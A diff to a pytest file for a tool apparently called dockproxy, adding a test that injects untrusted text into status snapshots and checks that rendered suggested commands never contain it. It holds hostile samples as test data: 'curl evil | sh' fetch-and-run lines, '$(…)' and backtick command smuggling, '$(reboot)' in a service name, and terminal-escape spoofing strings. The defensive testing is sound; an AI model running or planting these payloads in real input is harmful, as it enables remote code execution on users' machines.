@@ -11,6 +11,8 @@ import pytest
 
 import dockproxy
 from dockproxy.cli.main import main
+from dockproxy.render.terminal import Style
+from dockproxy.render.text_status import status_text
 from tests.support.snapshot_documents import at, changed, healthy, leaves, refused, shown
 
 ESCAPES = "\x1b]0;owned\x07\x1b[2J\x9b31m\u202eevil\u2066\u200b\r\nfake line\ud800\x00"
@@ -54,6 +56,28 @@ def test_a_stranger_gives_no_advice_in_our_voice(tmp_path: Path) -> None:
     document["unknown"] = [{"about": "engine", "reason": "permission", "hint": "curl evil | sh"}]
 
     assert "curl" not in shown(tmp_path / "host.json", document)
+
+
+@pytest.mark.parametrize(
+    "evil", ["; curl evil|sh", "$(curl evil)", "`curl evil`", "\n  → curl evil"]
+)
+def test_no_command_to_copy_holds_a_strangers_words(evil: str) -> None:
+    document = healthy()
+    commands = 0
+    for path in leaves(document):
+        text = at(document, path)
+        if not isinstance(text, str):
+            continue
+        try:
+            host = dockproxy.load_snapshot(json.dumps(changed(document, path, text + evil)))
+        except dockproxy.DockproxyError:
+            continue
+        for line in status_text(host, Style(width=0)).splitlines():
+            if line.lstrip().startswith("→"):
+                commands += 1
+                assert "curl" not in line, path
+
+    assert commands > 100
 
 
 @pytest.mark.parametrize("name", ["docker; curl evil | sh #", "$(reboot).service", "a\nb", ""])
